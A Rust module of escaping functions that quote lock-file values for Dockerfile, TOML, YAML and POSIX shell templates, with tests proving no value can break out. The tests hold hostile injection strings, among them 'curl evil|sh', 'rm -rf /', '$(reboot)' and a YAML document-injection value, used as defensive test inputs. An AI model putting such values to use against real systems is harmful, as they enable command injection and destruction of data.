//! The escaping filters every template uses for values that come from a lock. Each one turns any
//! string into exactly one token of its target language, so no value can end a line, close a
//! quote or start a new instruction. This module performs no I/O.

/// A double-quoted string for Dockerfile `ENV`/`LABEL` values: `\` `"` and `$` are escaped
/// (Docker expands `$VAR` inside double quotes in these instructions), control characters become
/// visible escapes such as `\n`, never a real line break.
pub fn dq(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '$' => out.push_str("\\$"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if c.is_control() || is_unicode_line_break(c) => {
                out.push_str(&format!("\\u{:04x}", c as u32))
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// A TOML basic string: JSON's string escapes are all valid TOML escapes, and JSON never leaves
/// a raw control character or line break in the output.
pub fn toml_str(s: &str) -> String {
    serde_json::to_string(s).unwrap_or_else(|_| "\"\"".to_string())
}

/// A YAML scalar that is always a string: single-quoted (`'` doubled), or, when the value holds a
/// control character, a double-quoted scalar with JSON escapes (valid YAML), so that neither a
/// line break nor `---` can start a new key or document.
pub fn yaml_str(s: &str) -> String {
    if s.chars()
        .any(|c| c.is_control() || is_unicode_line_break(c) || c == '\u{feff}')
    {
        let mut out = String::with_capacity(s.len() + 2);
        out.push('"');
        for c in s.chars() {
            match c {
                '\\' => out.push_str("\\\\"),
                '"' => out.push_str("\\\""),
                '\n' => out.push_str("\\n"),
                '\t' => out.push_str("\\t"),
                c if c.is_control() || is_unicode_line_break(c) || c == '\u{feff}' => {
                    out.push_str(&format!("\\u{:04x}", c as u32))
                }
                c => out.push(c),
            }
        }
        out.push('"');
        out
    } else {
        format!("'{}'", s.replace('\'', "''"))
    }
}

/// A POSIX shell word: single-quoted, with `'` written as `'\''`. Nothing inside single quotes is
/// special to a shell. A line break would still end a Dockerfile `RUN` line, so values holding
/// one are refused (the renderer checks every value before it reaches a template).
pub fn sh(s: &str) -> Result<String, String> {
    if s.chars().any(|c| c == '\n' || c == '\r') {
        return Err("a value with a line break cannot be quoted for a shell line".into());
    }
    Ok(format!("'{}'", s.replace('\'', r"'\''")))
}

/// U+0085, U+2028, U+2029: line breaks to YAML 1.1 readers (PyYAML, which conda uses).
fn is_unicode_line_break(c: char) -> bool {
    matches!(c, '\u{85}' | '\u{2028}' | '\u{2029}')
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &[&str] = &[
        "1.0\nRUN curl evil|sh",
        "$(reboot)",
        "`id`",
        "x'; rm -rf /; '",
        "---\nkind: Secret",
        "a\"b\\c",
        "${PATH}",
        "\r\nUSER root",
        "\u{2028}x",
    ];

    #[test]
    fn toml_str_round_trips_through_a_toml_parser() {
        for v in [
            "plain",
            "a\"b",
            "back\\slash",
            "line\nbreak",
            "tab\there",
            "\u{2028}x",
            "é",
        ] {
            let doc = format!("k = {}\n", toml_str(v));
            let t: toml::Table = doc.parse().unwrap_or_else(|e| panic!("{doc}: {e}"));
            assert_eq!(t["k"].as_str(), Some(v), "{doc}");
            assert_eq!(doc.lines().count(), 1, "{doc}");
        }
    }

    #[test]
    fn dq_never_breaks_a_line_or_expands() {
        assert_eq!(dq("cuda>=12.4"), "\"cuda>=12.4\"");
        assert_eq!(dq("a\"b\\c$D"), r#""a\"b\\c\$D""#);
        assert_eq!(dq("1\nRUN x"), r#""1\nRUN x""#);
        for h in HOSTILE {
            let q = dq(h);
            assert!(!q.contains('\n') && !q.contains('\r'), "{q}");
            // Every `"` and `$` inside is escaped: strip escapes and none remain.
            let inner = &q[1..q.len() - 1];
            let mut chars = inner.chars();
            while let Some(c) = chars.next() {
                if c == '\\' {
                    chars.next();
                    continue;
                }
                assert!(c != '"' && c != '$', "unescaped {c} in {q}");
            }
        }
    }

    #[test]
    fn yaml_str_round_trips_through_a_yaml_parser() {
        for h in HOSTILE
            .iter()
            .chain(&["plain", "3.10", "yes", "null", "*alias", "- x", "a: b"])
        {
            let doc = format!("k: {}\n", yaml_str(h));
            let parsed: std::collections::BTreeMap<String, String> =
                serde_saphyr::from_str(&doc).unwrap_or_else(|e| panic!("{doc}: {e}"));
            assert_eq!(parsed.get("k").map(String::as_str), Some(*h), "{doc}");
            assert_eq!(doc.lines().count(), 1, "{doc}");
        }
        assert_eq!(yaml_str("it's"), "'it''s'");
    }

    #[test]
    fn sh_quotes_everything() {
        assert_eq!(sh("x'; rm -rf /; '").unwrap(), r"'x'\''; rm -rf /; '\'''");
        assert_eq!(sh("$(reboot)").unwrap(), "'$(reboot)'");
        assert_eq!(sh("`id`").unwrap(), "'`id`'");
        assert!(sh("a\nb").is_err());
    }

    /// When /bin/sh exists, the quoted word really is one literal word.
    #[test]
    fn sh_quoting_survives_a_real_shell() {
        if !std::path::Path::new("/bin/sh").exists() {
            eprintln!("skipped: no /bin/sh on this machine");
            return;
        }
        for h in ["x'; rm -rf /; '", "$(reboot)", "`id`", "a b;c|d&e", "'\"\\"] {
            let out = std::process::Command::new("/bin/sh")
                .arg("-c")
                .arg(format!("printf %s {}", sh(h).unwrap()))
                .output()
                .unwrap();
            assert_eq!(String::from_utf8_lossy(&out.stdout), h);
        }
    }
}
